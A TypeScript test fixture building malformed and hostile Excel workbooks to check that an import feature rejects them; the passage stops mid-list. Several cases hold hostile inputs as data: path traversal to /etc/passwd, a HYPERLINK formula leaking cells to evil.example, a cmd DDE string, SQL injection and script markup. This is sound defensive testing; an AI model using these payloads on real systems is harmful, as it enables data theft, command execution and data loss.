/**
 * A corpus of malformed and hostile workbooks, built in memory (exceljs for the cells, jszip for what
 * exceljs would never write), so the corpus is code, not binary blobs. Each case builds one file per
 * import kind: structural attacks are the same bytes for every kind, content attacks put their values
 * into the kind's own columns (amounts into its amount columns, text into its text columns …).
 *
 * Every file is meant to be refused — by a 4xx or by a row's problem — and none to be written: where a
 * case's attack might be acceptable data for a kind (an emoji in a 备注, a date as text), the file also
 * carries a poison row that can never pass, so a commit must refuse the whole file. Used by
 * server/hostile-imports.test.ts.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { ALLOCATION_COLUMNS, PAYMENT_COLUMNS } from "../server/modules/imports/columns";
import { COMMUNITY_COLUMNS, CONTENT_COLUMNS, PROJECT_COLUMNS, TARGET_COLUMNS } from "../server/modules/projects/columns";
import { USER_IMPORT_COLUMNS } from "../server/modules/users/import-users";
import { REGION_COLUMNS } from "../core/regions";
import { PAPER_COLUMNS, paperColumns } from "../core/survey/paper";
import { DEFAULT_QUESTIONNAIRE } from "../core/survey/questionnaire";
import { WORK_COLUMNS } from "../core/works/import";

export const IMPORT_KIND_NAMES = ["allocations", "payments", "communities", "projects", "contents", "targets", "regions", "users", "surveyForms", "works"] as const;
export type ImportKindName = (typeof IMPORT_KIND_NAMES)[number];

type Cell = ExcelJS.CellValue;
type Row = Record<string, Cell>;

/** What a content attack needs to know of a kind's sheet. Every column list names headers of `headers`. */
export interface KindSheet {
  kind: ImportKindName;
  /** The sheet name of the kind's template. */
  sheetName: string;
  headers: string[];
  /** A row the demo database accepts as is (server/hostile-imports.test.ts checks that it does). */
  base: Row;
  /** A second valid row with other keys, for two-row cases. */
  other: Row;
  /** A row that can never pass: an unknown 县区 / 级别 / 角色 / 改造内容. */
  poison: Row;
  /** Free text: names, 备注, 简介. */
  text: string[];
  /** Keys written as given: 凭证号, 文号, 项目编号, 小区编号, 用户名, 编码. */
  keys: string[];
  /** Looked up in a list; anything unknown is a problem. Never empty. */
  lookups: string[];
  /** Money and other numbers. */
  amounts: string[];
  dates: string[];
  /** May a 县区 account import it (its own county only)? */
  countyScoped: boolean;
  /** Imported by a 专营单位 account (its own works), not by finance. */
  operatorOnly?: boolean;
}

const headersOf = (columns: { header: string }[]) => columns.map((c) => c.header);
const d = (iso: string) => new Date(iso + "T00:00:00Z");

/** The demo city's facts the base rows use: 兰山区's first project, a source with money left, a catalogue item. */
/** 纸质问卷 of the demo survey (task 1): its first sampled community, every question answered. */
const SURVEY_HEADERS = [PAPER_COLUMNS.community, PAPER_COLUMNS.formNo, ...paperColumns(DEFAULT_QUESTIONNAIRE).map((c) => c.header)];
function paperForm(formNo: string, building: string): Row {
  const row: Row = { [PAPER_COLUMNS.community]: "371302-0002", [PAPER_COLUMNS.formNo]: formNo };
  for (const c of paperColumns(DEFAULT_QUESTIONNAIRE)) {
    const q = c.question;
    row[c.header] = q.kind === "satisfaction" ? "比较满意" : q.kind === "choice" ? q.choices[0] : q.kind === "comment" ? "试导入意见" : q.name === "building" ? building : "1";
  }
  return row;
}

export const SHEETS: Record<ImportKindName, KindSheet> = {
  allocations: {
    kind: "allocations",
    sheetName: "资金下达",
    headers: headersOf(ALLOCATION_COLUMNS),
    base: { 县区: "兰山区", 资金来源: "省级补助", "金额（万元）": 0.01, 文号: "临财建〔2021〕9901号", 下达日期: d("2021-06-01"), 项目编号: "371302-2021-001", 备注: "试导入" },
    other: { 县区: "兰山区", 资金来源: "市级补助", "金额（万元）": 0.02, 文号: "临财建〔2021〕9902号", 下达日期: d("2021-06-02"), 项目编号: "371302-2021-002", 备注: null },
    poison: { 县区: "不存在的县区", 资金来源: "省级补助", "金额（万元）": 0.01, 文号: "临财建〔2021〕9999号", 下达日期: d("2021-06-01"), 项目编号: null, 备注: null },
    text: ["备注"],
    keys: ["文号", "项目编号"],
    lookups: ["县区", "资金来源"],
    amounts: ["金额（万元）"],
    dates: ["下达日期"],
    countyScoped: false,
  },
  payments: {
    kind: "payments",
    sheetName: "资金支付",
    headers: headersOf(PAYMENT_COLUMNS),
    base: { 县区: "兰山区", 项目编号: "371302-2021-001", 资金来源: "省级补助", "金额（元）": 1, 支付日期: d("2022-03-01"), 凭证号: "HX-2022-9901", 备注: "试导入" },
    other: { 县区: "兰山区", 项目编号: "371302-2021-002", 资金来源: "市级补助", "金额（元）": 2, 支付日期: d("2022-03-02"), 凭证号: "HX-2022-9902", 备注: null },
    poison: { 县区: "不存在的县区", 项目编号: "371302-2021-001", 资金来源: "省级补助", "金额（元）": 1, 支付日期: d("2022-03-01"), 凭证号: "HX-2022-9999", 备注: null },
    text: ["备注"],
    keys: ["凭证号"],
    lookups: ["县区", "项目编号", "资金来源"],
    amounts: ["金额（元）"],
    dates: ["支付日期"],
    countyScoped: true,
  },
  communities: {
    kind: "communities",
    sheetName: "小区",
    headers: headersOf(COMMUNITY_COLUMNS),
    base: { 县区: "兰山区", 小区编号: "371302-9901", 小区名称: "试导入小区", 街道: "金雀山街道", 建成年份: 1996, 楼栋数: 3, 户数: 60, "建筑面积（㎡）": 5000, 备注: "试导入" },
    other: { 县区: "兰山区", 小区编号: "371302-9902", 小区名称: "试导入小区二", 街道: "金雀山街道", 建成年份: 1998, 楼栋数: 2, 户数: 40, "建筑面积（㎡）": 3000, 备注: null },
    poison: { 县区: "不存在的县区", 小区编号: "371302-9999", 小区名称: "毒丸", 街道: null, 建成年份: 1996, 楼栋数: 1, 户数: 1, "建筑面积（㎡）": 100, 备注: null },
    text: ["小区名称", "街道", "备注"],
    keys: ["小区编号"],
    lookups: ["县区", "物业管理模式"],
    amounts: ["建筑面积（㎡）", "楼栋数", "户数", "物业费收缴率（%）"],
    dates: ["建成年份"],
    countyScoped: true,
  },
  projects: {
    kind: "projects",
    sheetName: "项目",
    headers: [...headersOf(PROJECT_COLUMNS).filter((h) => h !== "项目简介"), "中央补助（万元）", "省级补助（万元）", "项目简介"],
    base: { 县区: "兰山区", 项目编号: "371302-2021-901", 项目名称: "试导入项目", 实施主体: "兰山城市建设投资有限公司", 计划开工日期: d("2021-09-01"), "中央补助（万元）": 10, 项目简介: "试导入" },
    other: { 县区: "兰山区", 项目编号: "371302-2021-902", 项目名称: "试导入项目二", 计划开工日期: d("2021-09-02"), "省级补助（万元）": 5, 项目简介: null },
    poison: { 县区: "不存在的县区", 项目编号: "371302-2021-999", 项目名称: "毒丸", "中央补助（万元）": 1 },
    text: ["项目名称", "实施主体", "街道", "项目简介"],
    keys: ["项目编号"],
    lookups: ["县区", "小区编号"],
    amounts: ["中央补助（万元）", "省级补助（万元）"],
    dates: ["计划开工日期", "实际开工日期", "计划完工日期", "实际竣工验收日期"],
    countyScoped: true,
  },
  contents: {
    kind: "contents",
    sheetName: "改造内容",
    headers: headersOf(CONTENT_COLUMNS),
    base: { 项目编号: "371302-2021-001", 改造内容: "拆违拆临", 数量: 10, "金额（万元）": 0.5, 备注: "试导入" },
    other: { 项目编号: "371302-2021-002", 改造内容: "安防设施", 数量: 2, "金额（万元）": 0.3, 备注: null },
    poison: { 项目编号: "371302-2021-001", 改造内容: "不存在的改造内容", 数量: 1, "金额（万元）": 0.1, 备注: null },
    text: ["备注", "单位"],
    keys: ["项目编号"],
    lookups: ["改造内容", "改造类别"],
    amounts: ["数量", "金额（万元）"],
    dates: [],
    countyScoped: true,
  },
  targets: {
    kind: "targets",
    sheetName: "绩效目标",
    headers: headersOf(TARGET_COLUMNS),
    base: { 范围: "全市", 指标名称: "试导入指标", 单位: "个", 目标值: 10, 备注: "试导入" },
    other: { 范围: "兰山区", 指标名称: "试导入指标二", 单位: "户", 目标值: 20, 备注: null },
    poison: { 范围: "不存在的县区", 指标名称: "毒丸", 单位: "个", 目标值: 1, 备注: null },
    text: ["指标名称", "单位", "备注"],
    keys: ["指标名称"],
    lookups: ["范围", "计算口径", "指标方向"],
    amounts: ["目标值", "实际值"],
    dates: [],
    countyScoped: false,
  },
  regions: {
    kind: "regions",
    sheetName: "行政区划",
    headers: Object.values(REGION_COLUMNS),
    base: { 编码: "371302901", 名称: "试导入街道", 级别: "街道", 上级编码: "371302" },
    other: { 编码: "371302902", 名称: "试导入街道二", 级别: "街道", 上级编码: "371302" },
    poison: { 编码: "371302999", 名称: "毒丸", 级别: "不存在的级别", 上级编码: "371302" },
    text: ["名称"],
    keys: ["编码"],
    lookups: ["级别", "上级编码"],
    amounts: [],
    dates: [],
    countyScoped: false,
  },
  users: {
    kind: "users",
    sheetName: "账户",
    headers: Object.values(USER_IMPORT_COLUMNS),
    base: { 用户名: "hostile.probe1", 姓名: "试导入账户", 角色: "县区", 所属区划: "兰山区", 单位: "试导入单位", 手机: "13800000000" },
    other: { 用户名: "hostile.probe2", 姓名: "试导入账户二", 角色: "县区", 所属区划: "罗庄区", 单位: null, 手机: null },
    poison: { 用户名: "hostile.poison", 姓名: "毒丸", 角色: "不存在的角色", 所属区划: "兰山区", 单位: null, 手机: null },
    text: ["姓名", "单位", "手机"],
    keys: ["用户名"],
    lookups: ["角色", "所属区划"],
    amounts: [],
    dates: [],
    countyScoped: false,
  },
  surveyForms: {
    kind: "surveyForms",
    sheetName: "纸质问卷",
    headers: SURVEY_HEADERS,
    base: paperForm("HOSTILE-0001", "1"),
    other: paperForm("HOSTILE-0002", "2"),
    poison: { ...paperForm("HOSTILE-9999", "9"), [PAPER_COLUMNS.community]: "不存在的小区" },
    text: ["楼号", "单元", "室号", "您对小区改造和管理还有什么意见或建议？（选填）"],
    keys: [PAPER_COLUMNS.formNo],
    lookups: [PAPER_COLUMNS.community, "道路、停车设施改造", "您的住房是"],
    amounts: [],
    dates: [],
    countyScoped: false,
  },
  works: {
    kind: "works",
    sheetName: "施工计划",
    headers: Object.values(WORK_COLUMNS),
    base: { 小区编码: "371302-0002", 专业: "燃气", 施工内容: "试导入庭院燃气管网", 计划开始日期: d("2023-03-01"), 计划完成日期: d("2023-03-20"), 是否开挖: "是", 状态: "计划" },
    other: { 小区编码: "371302-0002", 专业: "燃气", 施工内容: "试导入更换调压箱", 计划开始日期: d("2023-04-01"), 计划完成日期: d("2023-04-05"), 是否开挖: "否", 状态: "计划" },
    poison: { 小区编码: "371302-0002", 专业: "不存在的专业", 施工内容: "毒丸", 计划开始日期: d("2023-03-01"), 计划完成日期: d("2023-03-20"), 是否开挖: null, 状态: null },
    text: ["施工内容"],
    keys: ["小区编码"],
    lookups: ["专业", "状态"],
    amounts: [],
    dates: ["计划开始日期", "计划完成日期"],
    countyScoped: false,
    operatorOnly: true,
  },
};

export interface HostileCase {
  /** Short and unique, used in test names. */
  name: string;
  /** One line: what the file is. */
  description: string;
  build(sheet: KindSheet): Promise<Buffer>;
  /** The name the file is uploaded as (default `${name}.xlsx`). */
  fileName?: string;
  /**
   * The accounts that run the case: finance by default; some content cases also as a 县区 account (on
   * the kinds a county may import), where the county's own checks and locks come into play.
   */
  identities?: ("finance" | "county")[];
}

// ─── builders ────────────────────────────────────────────────────────────────────────────────────

/** A workbook of one sheet: header row, then each row's cells in header order. */
async function workbook(sheet: KindSheet, rows: Row[], options: { headers?: string[]; sheetName?: string; touch?: (ws: ExcelJS.Worksheet, wb: ExcelJS.Workbook) => void } = {}): Promise<Buffer> {
  const headers = options.headers ?? sheet.headers;
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(options.sheetName ?? sheet.sheetName);
  ws.addRow(headers);
  for (const r of rows) ws.addRow(headers.map((h) => r[h] ?? null));
  options.touch?.(ws, wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** The base row with `columns` set to `value`. */
function withCells(sheet: KindSheet, columns: string[], value: Cell | ((column: string) => Cell), row: Row = sheet.base): Row {
  return { ...row, ...Object.fromEntries(columns.map((c) => [c, typeof value === "function" ? value(c) : value])) };
}

/** The kind's amount columns, or its first lookup when it has none (where any junk is a problem too). */
const amountsOr = (s: KindSheet) => (s.amounts.length ? s.amounts : [s.lookups[0]]);
const datesOr = (s: KindSheet) => (s.dates.length ? s.dates : [s.lookups[0]]);

/** Rewrites entries of a workbook's zip. */
async function patchZip(data: Buffer, patch: (zip: JSZip) => Promise<void> | void): Promise<Buffer> {
  const zip = await JSZip.loadAsync(data);
  await patch(zip);
  return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
}

async function patchEntry(data: Buffer, entry: string, edit: (xml: string) => string): Promise<Buffer> {
  return patchZip(data, async (zip) => {
    const file = zip.file(entry);
    if (!file) throw new Error(`hostile-workbooks: ${entry} missing`);
    zip.file(entry, edit(await file.async("string")));
  });
}

const SHEET1 = "xl/worksheets/sheet1.xml";
const STRINGS = "xl/sharedStrings.xml";
const WORKBOOK = "xl/workbook.xml";

/** The base row with the poison row after it: a commit can never write it. */
const poisoned = (s: KindSheet, ...rows: Row[]) => [...rows, s.poison];

/** Finance and a 县区 account. */
const BOTH: HostileCase["identities"] = ["finance", "county"];

/** A content case: rows built from the kind's sheet; `poison` adds the poison row where the rows might be acceptable. */
function content(name: string, description: string, rows: (s: KindSheet) => Row[], options: { poison?: boolean | ImportKindName[]; identities?: HostileCase["identities"] } = {}): HostileCase {
  return {
    name,
    description,
    identities: options.identities,
    build: (s) => {
      const poison = options.poison === true || (Array.isArray(options.poison) && options.poison.includes(s.kind));
      return workbook(s, poison ? poisoned(s, ...rows(s)) : rows(s));
    },
  };
}

const HUGE = "长".repeat(100_000);
const OLE2_HEADER = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

/** A minimal .docx (what Word writes, less everything optional). */
async function docx(): Promise<Buffer> {
  const zip = new JSZip();
  zip.file("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>');
  zip.file("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>');
  zip.file("word/document.xml", '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>县区 项目编号 金额</w:t></w:r></w:p></w:body></w:document>');
  return zip.generateAsync({ type: "nodebuffer" });
}

/** Appends XML inside <sheetData> of the first sheet, and sets its <dimension>. */
const appendRows = (xml: string, rows: string, dimension?: string) => {
  let out = xml.replace("</sheetData>", `${rows}</sheetData>`);
  if (dimension) out = out.replace(/<dimension ref="[^"]*"\/>/, `<dimension ref="${dimension}"/>`);
  return out;
};

/** The column letters of a 1-based column number (1 → A, 16384 → XFD). */
function columnName(n: number): string {
  let s = "";
  for (; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

/** Row 2 of the first sheet rewritten as raw cells `<c …>` in header order, for cell types exceljs never writes. */
async function rawRow(s: KindSheet, cellXml: (header: string, ref: string) => string | null): Promise<Buffer> {
  const data = await workbook(s, [s.base, s.poison]);
  const cells = s.headers.map((h, i) => cellXml(h, `${columnName(i + 1)}2`)).filter(Boolean).join("");
  return patchEntry(data, SHEET1, (xml) => xml.replace(/<row r="2"[^>]*>.*?<\/row>/s, `<row r="2">${cells}</row>`));
}
const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
/** The base row's cell as inline text, so a raw row keeps its other columns. */
const baseInline = (s: KindSheet, h: string, ref: string) => {
  const v = s.base[h];
  if (v === null || v === undefined) return null;
  return inline(ref, v instanceof Date ? v.toISOString().slice(0, 10) : String(v));
};

// ─── the corpus ──────────────────────────────────────────────────────────────────────────────────

export const HOSTILE_WORKBOOKS: HostileCase[] = [
  // Not a workbook at all.
  { name: "empty-file", description: "零字节的文件", build: async () => Buffer.alloc(0) },
  { name: "not-a-zip", description: "一段中文文本，扩展名为 .xlsx", build: async () => Buffer.from("这不是一个工作簿，只是一段文字。\n".repeat(20)) },
  { name: "zip-signature-only", description: "只有 ZIP 文件头 PK\\x03\\x04，其后是乱码", build: async () => Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.alloc(200, 0xff)]) },
  { name: "truncated-zip", description: "有效工作簿截去后半（中央目录缺失）", build: async (s) => (await workbook(s, [s.base])).subarray(0, 1200) },
  { name: "empty-zip", description: "没有任何条目的 ZIP", build: async () => new JSZip().generateAsync({ type: "nodebuffer" }) },
  {
    name: "no-workbook-xml",
    description: "工作簿去掉了 xl/workbook.xml",
    build: async (s) => patchZip(await workbook(s, [s.base]), (zip) => void zip.remove(WORKBOOK)),
  },
  { name: "xls-renamed", description: "旧版 .xls（OLE2 复合文档头）改名为 .xlsx", build: async () => Buffer.concat([OLE2_HEADER, Buffer.alloc(4096 - 8)]) },
  {
    name: "csv-renamed",
    description: "CSV 文本（表头与一行有效数据）改名为 .xlsx",
    build: async (s) => Buffer.from([s.headers.join(","), s.headers.map((h) => String(s.base[h] ?? "")).join(",")].join("\r\n")),
  },
  { name: "docx-renamed", description: "Word .docx 改名为 .xlsx", build: docx },
  {
    name: "html-renamed",
    description: "HTML 表格（旧式“网页另存为 Excel”）改名为 .xlsx",
    build: async (s) => Buffer.from(`<html><body><table><tr>${s.headers.map((h) => `<td>${h}</td>`).join("")}</tr></table><script>alert(1)</script></body></html>`),
  },
  {
    name: "path-traversal-entry",
    description: "ZIP 内含 ../../evil 与绝对路径条目，工作表指向 ../../../../etc/passwd",
    build: async (s) =>
      patchZip(await workbook(s, [s.base]), async (zip) => {
        zip.file("../../evil.txt", "evil");
        zip.file("/etc/evil.txt", "evil");
        const rels = "xl/_rels/workbook.xml.rels";
        zip.file(rels, (await zip.file(rels)!.async("string")).replace(/Target="worksheets\/sheet1.xml"/, 'Target="../../../../etc/passwd"'));
      }),
  },
  {
    name: "no-sheets",
    description: "workbook.xml 的 <sheets> 为空",
    build: async (s) => patchEntry(await workbook(s, [s.base]), WORKBOOK, (xml) => xml.replace(/<sheets>.*<\/sheets>/s, "<sheets/>")),
  },
  { name: "empty-workbook", description: "只有一张空工作表", build: async () => Buffer.from(await emptyWorkbook()) },
  { name: "extension-csv", fileName: "数据.csv", description: "有效工作簿（另有毒丸行）以 .csv 扩展名上传", build: (s) => workbook(s, poisoned(s, s.base)) },
  { name: "filename-traversal", fileName: "../../../etc/passwd.xlsx", description: "文件名为 ../../../etc/passwd.xlsx，另有毒丸行", build: (s) => workbook(s, poisoned(s, s.base)) },
  { name: "filename-markup", fileName: '<img src=x onerror="alert(1)">\u202e.xlsx', description: "文件名含 HTML 与 RTL 覆盖符，另有毒丸行", build: (s) => workbook(s, poisoned(s, s.base)) },

  // Headers.
  { name: "headers-only", description: "只有表头，没有数据行", build: (s) => workbook(s, []) },
  {
    name: "headers-at-row-11",
    description: "前十行是说明文字，表头在第 11 行",
    build: async (s) => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet(s.sheetName);
      for (let i = 1; i <= 10; i++) ws.addRow([`说明第${i}行`]);
      ws.addRow(s.headers);
      ws.addRow(s.headers.map((h) => s.base[h] ?? null));
      return Buffer.from(await wb.xlsx.writeBuffer());
    },
  },
  {
    name: "missing-required-column",
    description: "缺少第一列（必填）",
    build: (s) => workbook(s, [s.base], { headers: s.headers.slice(1) }),
  },
  {
    name: "duplicate-headers",
    description: "每个表头出现两次，两列的值不同（第二列为毒丸行的值）",
    build: async (s) => {
      const headers = [...s.headers, ...s.headers];
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet(s.sheetName);
      ws.addRow(headers);
      ws.addRow([...s.headers.map((h) => s.base[h] ?? null), ...s.headers.map((h) => s.poison[h] ?? null)]);
      ws.addRow([...s.headers.map((h) => s.poison[h] ?? null), ...s.headers.map((h) => s.base[h] ?? null)]);
      return Buffer.from(await wb.xlsx.writeBuffer());
    },
  },
  {
    name: "merged-header-cells",
    description: "表头前四格合并（后三个表头消失）",
    build: (s) => workbook(s, [s.base], { touch: (ws) => ws.mergeCells(1, 1, 1, 4) }),
  },
  {
    name: "fullwidth-headers",
    description: "表头带全角括号、全角空格、前后 * 与换行（应能识别），另有毒丸行",
    build: (s) =>
      workbook(s, poisoned(s, s.base), { headers: s.headers.map((h) => `*\u3000${h.replace(/\(/g, "（").replace(/\)/g, "）")}\n`) })
  },
  {
    name: "headers-zero-width",
    description: "表头夹零宽字符与 RTL 覆盖符（不应识别为模板表头）",
    build: async (s) => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet(s.sheetName);
      ws.addRow(s.headers.map((h) => `${h.slice(0, 1)}\u200b${h.slice(1)}\u202e`));
      ws.addRow(s.headers.map((h) => s.base[h] ?? null));
      return Buffer.from(await wb.xlsx.writeBuffer());
    },
  },

  // Formulas, errors, rich values.
  content("formula-div-zero", "金额与查找列为公式 =1/0，缓存结果 #DIV/0!", (s) => [withCells(s, [...amountsOr(s), s.lookups[0]], { formula: "1/0", result: { error: "#DIV/0!" } } as Cell)]),
  content("formula-ref-error", "各列为公式 =#REF!+1，缓存结果 #REF!", (s) => [withCells(s, s.headers, { formula: "#REF!+1", result: { error: "#REF!" } } as Cell)]),
  {
    name: "formula-circular",
    description: "两格公式互相引用（循环引用），没有缓存结果",
    build: (s) =>
      workbook(s, [
        withCells(s, [s.lookups[0], ...amountsOr(s)], (c) => ({ formula: c === s.lookups[0] ? `${columnName(s.headers.indexOf(amountsOr(s)[0]) + 1)}2` : `${columnName(s.headers.indexOf(s.lookups[0]) + 1)}2` }) as Cell),
      ]),
  },
  content("formula-no-result", "查找列与金额为无缓存结果的公式 =SUM(1,2)", (s) => [withCells(s, [s.lookups[0], ...amountsOr(s)], { formula: "SUM(1,2)" } as Cell)]),
  content("error-cells", "每一格都是错误值 #N/A", (s) => [withCells(s, s.headers, { error: "#N/A" } as Cell)]),
  content("rich-text", "查找列与文本为富文本（分段加粗），另有毒丸行", (s) => [withCells(s, [...s.lookups.slice(0, 1), ...s.text], (c) => ({ richText: [{ text: String(s.base[c] ?? "甲").slice(0, 1), font: { bold: true } }, { text: String(s.base[c] ?? "甲乙").slice(1) }] }) as Cell)], { poison: true }),
  content("hyperlinks", "文本为 javascript: 与 file: 超链接，另有毒丸行", (s) => [withCells(s, s.text, (c) => ({ text: String(s.base[c] ?? "链接"), hyperlink: "javascript:alert(document.cookie)" }) as Cell), withCells(s, s.text, { text: "本地文件", hyperlink: "file:///etc/passwd" } as Cell, s.other)], { poison: true }),
  content("formula-injection-text", "文本为 =HYPERLINK(…)、+cmd|… 等公式注入串，另有毒丸行", (s) => [withCells(s, s.text, '=HYPERLINK("http://evil.example/?"&A1,"点此")'), withCells(s, s.text, "+cmd|' /C calc'!A0", s.other)], { poison: true }),

  // Dates.
  content("date-as-text", "日期写成文字：2022年3月1日、03/01/2022，另有毒丸行", (s) => [withCells(s, datesOr(s), "2022年3月1日"), withCells(s, datesOr(s), "03/01/2022", s.other)], { poison: true }),
  content("date-as-serial", "日期写成 Excel 序列号数字 44621 和 60（1900-02-29），另有毒丸行", (s) => [withCells(s, datesOr(s), 44621), withCells(s, datesOr(s), 60, s.other)], { poison: true }),
  content("date-impossible", "日期 2022-02-30 与 2021-13-01（文字）", (s) => [withCells(s, datesOr(s), "2022-02-30"), withCells(s, datesOr(s), "2021-13-01", s.other)]),
  content("date-garbage", "日期为 0000-00-00、-1、9999999999", (s) => [withCells(s, datesOr(s), "0000-00-00"), withCells(s, datesOr(s), -1, s.other), withCells(s, datesOr(s), 9_999_999_999, s.poison)]),
  content(
    "date-outside-fund-year",
    "下达、支付日期在资金年度允许期间之外（2030-01-01、1999-12-31）；其他类型另有毒丸行",
    (s) => [withCells(s, datesOr(s), d("2030-01-01")), withCells(s, datesOr(s), d("1999-12-31"), s.other)],
    { poison: ["communities", "projects", "contents", "targets", "regions", "users", "works"], identities: BOTH },
  ),

  // Amounts.
  content("amount-negative", "金额为负：-100 与文字 -0.01", (s) => [withCells(s, amountsOr(s), -100), withCells(s, amountsOr(s), "-0.01", s.other)], { identities: BOTH }),
  content("amount-zero", "金额为 0（下达、支付不得为 0；其他类型另有毒丸行）", (s) => [withCells(s, amountsOr(s), 0)], { poison: ["communities", "projects", "contents", "targets"] }),
  content("amount-nan-text", "金额为 NaN、abc", (s) => [withCells(s, amountsOr(s), "NaN"), withCells(s, amountsOr(s), "abc", s.other)]),
  content("amount-1e308", "金额为 1e308（文字）与 1e308（数字）", (s) => [withCells(s, amountsOr(s), "1e308"), withCells(s, amountsOr(s), 1e308, s.other)]),
  content("amount-comma-decimal", "金额 10,50（逗号作小数点）", (s) => [withCells(s, amountsOr(s), "10,50")], { identities: BOTH }),
  content("amount-bad-grouping", "金额 1,0,0 与 12,34,567（不是千位分组）", (s) => [withCells(s, amountsOr(s), "1,0,0"), withCells(s, amountsOr(s), "12,34,567", s.other)]),
  content("amount-20-digits", "金额 99999999999999999999（文字与数字）", (s) => [withCells(s, amountsOr(s), "99999999999999999999"), withCells(s, amountsOr(s), 99999999999999999999, s.other)]),
  content("amount-past-2-53-fen", "金额 90,071,992,547,409.91 元（2^53 分以上），万元列为 9007199254.740991", (s) => [withCells(s, amountsOr(s), (c) => (c.includes("万元") ? "9007199254.740991" : "90071992547409.91"))], { identities: BOTH }),
  content("amount-infinity", "金额为 Infinity、∞", (s) => [withCells(s, amountsOr(s), "Infinity"), withCells(s, amountsOr(s), "∞", s.other)]),
  content("amount-too-fine", "金额超出精度：1.001 元、0.0000001 万元（绩效目标的目标值可有小数，另有毒丸行）", (s) => [withCells(s, amountsOr(s), (c) => (c.includes("万元") ? 0.0000001 : 1.001))], { poison: ["targets"] }),
  content("amount-fullwidth-digits", "金额为全角数字 １２３．４５，另有毒丸行", (s) => [withCells(s, amountsOr(s), "１２３．４５")], { poison: true }),
  content("amount-unit-suffix", "金额带单位：100万、100元、1.5万元，另有毒丸行", (s) => [withCells(s, amountsOr(s), "100万"), withCells(s, amountsOr(s), "1.5万元", s.other)], { poison: true }),
  content("amount-hex-and-separators", "金额为 0x10、1_000、1 000（Number() 会接受前者）", (s) => [withCells(s, amountsOr(s), "0x10"), withCells(s, amountsOr(s), "1_000", s.other), withCells(s, amountsOr(s), "1 000", s.poison)]),
  content("amount-boolean-and-date", "金额格为 TRUE 与日期", (s) => [withCells(s, amountsOr(s), true), withCells(s, amountsOr(s), d("2022-01-01"), s.other)]),

  // Text.
  content("huge-text-everywhere", "每个文本、编号、查找列都是 100,000 个字符", (s) => [withCells(s, [...s.text, ...s.keys, ...s.lookups], HUGE)], { identities: BOTH }),
  content("huge-note", "只有文本列（备注、名称、简介）是 100,000 个字符", (s) => [withCells(s, s.text, HUGE)]),
  content("long-keys", "编号列（凭证号、文号、项目编号、用户名、编码）3,000 个字符，超过索引上限", (s) => [withCells(s, s.keys, "K".repeat(3000))], { identities: BOTH }),
  content(
    "control-characters",
    "文本含 NUL、ESC、BEL（Excel 的 _x0000_ 转义）与 DEL、C1 控制字符，另有毒丸行",
    (s) => [withCells(s, s.text, "试_x0000_导入_x001B_[31m_x0007_\u007f\u0085\u009b2J")],
    { poison: true, identities: BOTH },
  ),
  content("nul-in-keys", "编号与查找列含 NUL", (s) => [withCells(s, [...s.keys, ...s.lookups.slice(0, 1)], (c) => `${String(s.base[c] ?? "编号")}_x0000_`)], { identities: BOTH }),
  content("bidi-and-zero-width", "查找列与文本含 RTL 覆盖符与零宽字符（兰\\u200b山区、\\u202e…），另有毒丸行", (s) => [withCells(s, [...s.lookups.slice(0, 1), ...s.text], (c) => `\u202e${String(s.base[c] ?? "文本").replace(/^(.)/, "$1\u200b\u200d\ufeff")}`)], { poison: true }),
  content("sql-injection", "各文本、编号、查找列为 SQL 注入串", (s) => [withCells(s, [...s.text, ...s.keys, ...s.lookups], "'); DROP TABLE payments; --"), withCells(s, [...s.keys, ...s.lookups], "1' OR '1'='1", s.other)], { identities: BOTH }),
  content("html-script", "各文本、编号、查找列为 <script> 与 <img onerror>", (s) => [withCells(s, [...s.text, ...s.keys, ...s.lookups], "<script>alert(1)</script>"), withCells(s, [...s.text, ...s.keys, ...s.lookups], '<img src=x onerror="alert(1)">', s.other)]),
  content("emoji", "各文本、编号、查找列为 emoji 与组合序列 🏠🏗️👨‍👩‍👧‍👦", (s) => [withCells(s, [...s.text, ...s.keys, ...s.lookups], "🏠🏗️👨‍👩‍👧‍👦")]),
  content("lone-surrogates", "文本与查找列含孤立代理项 \\uD800、\\uDFFF（_xD800_ 转义）", (s) => [withCells(s, [...s.text, ...s.lookups], "试_xD800_导_xDFFF_入")]),
  content("whitespace-only", "必填列只有空格、制表符与全角空格", (s) => [withCells(s, [...s.keys, ...s.lookups], " \t\u3000 ")]),
  content("numbers-in-text-columns", "编号与查找列填了数字 371302、0、-1", (s) => [withCells(s, [...s.keys, ...s.lookups], 371302), withCells(s, [...s.keys, ...s.lookups], -1, s.other)]),
  content("booleans-everywhere", "每一格都是 TRUE/FALSE", (s) => [withCells(s, s.headers, true), withCells(s, s.headers, false, s.other)]),

  // Rows and keys.
  content("duplicate-keys", "两行的键相同（凭证号；文号+县区+来源+项目；项目、小区编号；改造内容；范围+指标；用户名；编码），金额与文字不同", (s) => [s.base, withCells(s, [...s.amounts, ...s.text].filter((c) => !s.keys.includes(c)), (c) => s.other[c] ?? s.base[c])], {
    identities: BOTH,
    // Two works in one courtyard with other scopes are two works (施工内容 is part of their identity).
    poison: ["works"],
  }),
